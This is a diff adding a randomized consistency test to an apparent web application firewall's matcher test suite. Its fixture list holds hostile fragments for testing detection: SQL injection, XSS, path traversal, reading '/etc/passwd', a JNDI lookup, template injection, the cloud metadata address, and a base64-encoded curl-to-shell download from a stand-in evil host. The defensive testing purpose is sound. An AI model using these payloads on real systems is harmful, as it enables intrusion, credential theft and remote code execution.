@@ -346,3 +346,31 @@ def test_excerpt_of_random_ascii_text_is_bounded() -> None:
         out = excerpt(text, start, end)
         assert len(out) <= MAX_EXCERPT
         assert all(ch.isprintable() for ch in out)
+
+
+# --- batching is invisible -----------------------------------------------------------------------------
+
+
+def test_fields_judged_together_get_the_candidates_they_get_alone(bundled_signatures: tuple[Signature, ...]) -> None:
+    """Plain fields share one automaton scan per record: for random records of
+    tricky fragments (escapes, comments left open, ${...}, quotes, base64, look-alikes) each field's
+    candidates must be exactly those it gets inspected on its own."""
+    from firewall.engine.matcher import record_candidates
+
+    rules = compile_signatures(bundled_signatures, paranoia=4)
+    fragments = [
+        "hello", "O'Brien", "a+b@example.com", "%27%20or%201=1", "&lt;script&gt;", "\\x3cscript", "\\u0027",
+        "\\", "/*", "*/", "${IFS}", "{cat,/etc/passwd}", "c'a't", "../../", "..\\..\\", "ＳＥＬＥＣＴ",
+        "Y3VybCBodHRwOi8vZXZpbC5zaHxzaA==", "union select", "<img src=x onerror=alert(1)>", "\t\n", "\x00",
+        "http://169.254.169.254/", "${jndi:ldap://x}", "{{7*7}}", " ", "'", '"', "%", "&", "#",
+    ]
+    rng = random.Random(2026)
+    for _ in range(150):
+        items = [
+            (f"f{i}", "".join(rng.choice(fragments) for _ in range(rng.randint(1, 5))))
+            for i in range(rng.randint(2, 12))
+        ]
+        together, _ = record_candidates(rules, items)
+        for index, (path, text) in enumerate(items):
+            alone, _ = record_candidates(rules, [(path, text)])
+            assert together[index] == alone[0], (items, index)
